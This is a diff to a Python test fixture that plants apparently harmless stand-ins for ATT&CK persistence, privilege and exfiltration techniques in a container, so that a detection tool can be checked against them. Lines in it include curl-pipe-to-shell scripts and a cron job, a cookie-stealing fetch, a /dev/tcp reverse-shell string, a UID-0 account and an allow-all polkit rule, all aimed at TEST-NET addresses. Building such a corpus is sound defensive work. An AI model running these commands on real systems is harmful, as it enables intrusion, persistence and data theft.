@@ -1,12 +1,13 @@
 """Planted changes over ATT&CK techniques, all benign.  Runs in the container; ``truth.yaml`` says of each id what must be found.
 
-No planted program is run but copies of busybox: as ``sleep``, and one as a web server that nobody asks anything.
-Addresses are of TEST-NET-1 (RFC 5737).
+No planted program is run but copies of busybox and of sleep(1): as ``sleep``, as web servers that nobody asks anything, and shells that
+wait for what nobody sends.  Addresses are of TEST-NET-1 and TEST-NET-2 (RFC 5737), and no packet is sent to them.
 """
 
 from __future__ import annotations
 
 import os
+import socket
 import stat
 import struct
 import subprocess
@@ -18,6 +19,8 @@ PLANTS = {}
 LIBRARIES = next(path for path in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu") if os.path.isdir(path))
 BUSYBOX = "/bin/busybox"
 ADDRESS = "192.0.2.66"
+KNOWN_ADDRESS = "198.51.100.66"
+"""Stands in ``indicators.csv``."""
 
 
 def plant(function):
@@ -62,18 +65,19 @@ def replace_in(path, old, new):
         file.write(data.replace(old, new))
 
 
-def spawn(path, *argv):
-    """A process of its own session; returns once it runs its program."""
+def spawn(path, *argv, stdin=None, environment=None):
+    """A process of its own session; returns once it runs its program.  ``stdin``: a descriptor, of the null device without."""
     reading, writing = os.pipe2(os.O_CLOEXEC)
     child = os.fork()
     if child == 0:
         os.setsid()
         if os.fork() == 0:
             empty = os.open("/dev/null", os.O_RDWR)
-            for one in range(3):
+            os.dup2(empty if stdin is None else stdin, 0)
+            for one in (1, 2):
                 os.dup2(empty, one)
             os.chdir("/")
-            os.execv(path, argv)
+            os.execve(path, argv, environment or dict(os.environ))
         os._exit(0)
     os.close(writing)
     os.waitpid(child, 0)
@@ -208,6 +212,76 @@ def kernel_module():
     )
 
 
+@plant
+def capability_for_ports():
+    # cap_net_raw: no way to root by itself
+    os.setxattr("/usr/bin/nohup", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0))
+
+
+@plant
+def library_in_tmp():
+    copy(f"{LIBRARIES}/libutil.so.1", "/var/tmp/locale.bin", 0o644)
+
+
+@plant
+def moved_settings():
+    os.rename("/etc/security/time.conf", "/etc/security/time.conf.off")
+
+
+@plant
+def moved_aside():
+    os.rename("/opt/app/bin/run", "/opt/app/bin/run.real")
+    write("/opt/app/bin/run", b"#!/bin/sh\nexec /opt/app/bin/run.real\n", 0o755)
+
+
+@plant
+def start_script():
+    write("/docker-entrypoint.d/05-warm.sh", b"#!/bin/sh\ntrue\n", 0o755)
+
+
+@plant
+def fetch_and_run():
+    write("/opt/app/bin/update", f"#!/bin/sh\ncurl -s http://{ADDRESS}/i | sh\n".encode(), 0o755)
+
+
+@plant
+def way_to_the_host():
+    write("/opt/app/bin/debug", b"#!/bin/sh\nnsenter -t 1 -m -- true\n", 0o755)
+
+
+@plant
+def account_script():
+    write("/opt/app/bin/onboard", b"#!/bin/sh\nuseradd -o -u 0 support\n", 0o755)
+
+
+@plant
+def known_file():
+    write("/opt/app/etc/stage2.dat", b"irkit corpus: a file that a list of indicators knows\n")
+
+
+@plant
+def vouched_for():
+    path = "/usr/share/base-files/zz-extra.sh"
+    data = b"#!/bin/sh\nexec true\n"
+    write(path, data, 0o755)
+    append("/var/lib/dpkg/info/base-files.list", f"{path}\n".encode())
+    append("/var/lib/dpkg/info/base-files.md5sums", f"e5d8e78fc4ca3e06efc7829c15aed957  {path[1:]}\n".encode())
+
+
+@plant
+def attack_tool():
+    folder = "/tmp/nmap-package"
+    write(
+        f"{folder}/DEBIAN/control",
+        b"Package: nmap\nVersion: 7.0\nArchitecture: all\nMaintainer: nobody <nobody@invalid>\nDescription: a stand-in\n",
+    )
+    write(f"{folder}/usr/share/nmap/README", b"A stand-in for the real one.\n")
+    for argv in (["dpkg-deb", "-Zgzip", "--build", folder, f"{folder}.deb"], ["dpkg", "-i", f"{folder}.deb"]):
+        subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    for argv in (["rm", "-r", folder], ["rm", f"{folder}.deb"]):
+        subprocess.run(argv, check=True)
+
+
 # Persistence
 @plant
 def cron_folder():
@@ -337,7 +411,75 @@ def pam_module():
     copy(f"{LIBRARIES}/security/pam_permit.so", f"{LIBRARIES}/security/pam_unix_cache.so", 0o644)
 
 
+@plant
+def cron_that_fetches():
+    write("/etc/cron.d/zz-update", f"@hourly root curl -s http://{ADDRESS}/u | sh\n".encode())
+
+
+@plant
+def editor_start_file():
+    write("/root/.vimrc", b"silent !true\n")
+
+
+@plant
+def ssh_client_command():
+    write("/root/.ssh/config", b"Host *\n  ProxyCommand /usr/local/bin/kworkerd sleep 1\n", 0o600)
+
+
+@plant
+def rotation_script():
+    write("/etc/logrotate.d/zz-app", b"/var/log/app/*.log {\n  postrotate\n    true\n  endscript\n}\n")
+
+
+@plant
+def module_settings():
+    write("/etc/modprobe.d/zz-net.conf", b"install dccp /bin/true\n")
+
+
+@plant
+def polkit_rule():
+    write("/etc/polkit-1/rules.d/49-app.rules", b"polkit.addRule(function(a, s) { return polkit.Result.YES; });\n")
+
+
+@plant
+def git_command():
+    append("/srv/www/.git/config", b"\tfsmonitor = /usr/local/bin/kworkerd\n")
+
+
+@plant
+def name_service():
+    replace_in("/etc/nsswitch.conf", b"passwd:         files", b"passwd:         files extra")
+
+
+@plant
+def package_key():
+    write(
+        "/etc/apt/trusted.gpg.d/extra.asc",
+        b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nbm9uZQ==\n-----END PGP PUBLIC KEY BLOCK-----\n",
+    )
+
+
 # Accounts and rights
+@plant
+def account_that_can_log_in():
+    append("/etc/passwd", b"backup2:x:1500:1500::/home/backup2:/bin/bash\n")
+
+
+@plant
+def password_set():
+    replace_in("/etc/shadow", b"deploy:!:", b"deploy:$6$abcdefgh$abcdefghijklmnopqrstuvwxyz:")
+
+
+@plant
+def readable_again():
+    os.chmod("/etc/security/access.conf", 0o600)
+
+
+@plant
+def too_long_to_compare():
+    write("/home/app/.ssh/authorized_keys", b"# nothing\n" * 25_000, 0o600, 1000)
+
+
 @plant
 def second_superuser():
     append("/etc/passwd", b"sysadm:x:0:0::/root:/bin/bash\n")
@@ -415,7 +557,38 @@ def web_prepend():
     write("/srv/www/.user.ini", b"auto_prepend_file=uploads/photo-1.jpg\n", owner=33)
 
 
+@plant
+def page_that_sends_away():
+    write(
+        "/srv/www/cart.js",
+        f'document.forms[0].onsubmit = () => fetch("https://{ADDRESS}/c?" + document.cookie);\n'.encode(),
+        owner=33,
+    )
+
+
 # Traces
+@plant
+def gathered_archive():
+    write("/var/tmp/.b.tgz", b"\x1f\x8b\x08\0" + noise("gathered", 4000), 0o600)
+
+
+@plant
+def history_off():
+    write("/etc/profile.d/90-term.sh", b"unset HISTFILE\n")
+
+
+@plant
+def backdated():
+    append("/opt/app/bin/report", b"true\n")
+    os.utime("/opt/app/bin/report", (1_690_000_000, 1_690_000_000))
+
+
+@plant
+def file_becomes_link():
+    os.unlink("/srv/www/page9.php")
+    os.symlink("/etc/app/app.ini", "/srv/www/page9.php")
+
+
 @plant
 def older_than_the_image():
     write("/usr/local/bin/diskstat", b"#!/bin/sh\nexec true\n", 0o755)
@@ -521,6 +694,78 @@ def unannounced_port():
 
 
 @plant
+def memory_only_listener():
+    held = os.memfd_create("web")
+    with open(held, "wb", closefd=False) as file:
+        file.write(content(BUSYBOX))
+    spawn(f"/proc/self/fd/{held}", "busybox", "httpd", "-f", "-p", "31338", "-h", "/var/empty")
+    os.close(held)
+
+
+@plant
+def new_program_runs():
+    spawn("/usr/local/bin/kworkerd", *SLEEP)
+
+
+@plant
+def swapped_program_runs():
+    spawn("/usr/bin/cksum", "cksum", "86400")
+
+
+@plant
+def miner_runs():
+    copy(BUSYBOX, "/opt/app/bin/xmrig")
+    spawn("/opt/app/bin/xmrig", *SLEEP)
+
+
+@plant
+def known_program_runs():
+    copy(BUSYBOX, "/opt/app/bin/netmond")
+    spawn("/opt/app/bin/netmond", *SLEEP)
+
+
+@plant
+def shell_with_a_connection():
+    """A shell that reads from a connection to a mining pool's port, at the container's own address; nobody writes to it."""
+    own = socket.gethostbyname(socket.gethostname())
+    with socket.create_server((own, 3333)) as server, socket.create_connection((own, 3333)) as ours:
+        theirs, _ = server.accept()
+        with theirs:
+            spawn("/bin/sh", "sh", stdin=ours.fileno())
+            spawn(BUSYBOX, *SLEEP, stdin=theirs.fileno())
+
+
+@plant
+def command_of_an_attack():
+    spawn(BUSYBOX, "busybox", "sh", "-c", f"sleep 86400; : bash -i /dev/tcp/{ADDRESS}/4444")
+
+
+@plant
+def known_address():
+    """UDP: connected without a packet."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as held:
+        held.connect((KNOWN_ADDRESS, 53))
+        spawn(BUSYBOX, *SLEEP, stdin=held.fileno())
+
+
+@plant
+def raw_socket():
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as held:
+        spawn(BUSYBOX, *SLEEP, stdin=held.fileno())
+
+
+@plant
+def preloaded_process():
+    copy(BUSYBOX, "/opt/app/bin/sessiond")
+    spawn("/opt/app/bin/sessiond", *SLEEP, environment={**os.environ, "LD_PRELOAD": "/usr/local/lib/libsystem.so"})
+
+
+@plant
+def name_server():
+    append("/etc/resolv.conf", f"nameserver {ADDRESS}\n".encode())
+
+
+@plant
 def hosts_entry():
     append("/etc/hosts", f"{ADDRESS}\tdeb.debian.org\n".encode())
 
@@ -531,6 +776,8 @@ def preload():
     write("/etc/ld.so.preload", b"/usr/local/lib/libsystem.so\n")
 
 
+UNMADE = ("device-node", "raw-socket")
+"""In a user namespace the kernel makes no device node, and without CAP_NET_RAW no raw socket: the attack is none there either."""
 os.umask(0o022)
 os.makedirs("/var/empty", exist_ok=True)
 planted = []
@@ -538,7 +785,7 @@ for name, function in PLANTS.items():
     try:
         function()
     except PermissionError as error:
-        if name != "device-node":  # in a user namespace the kernel makes none: the attack is none there either
+        if name not in UNMADE:
             raise SystemExit(f"{name}: {error!r}") from error
     except Exception as error:
         raise SystemExit(f"{name}: {error!r}") from error
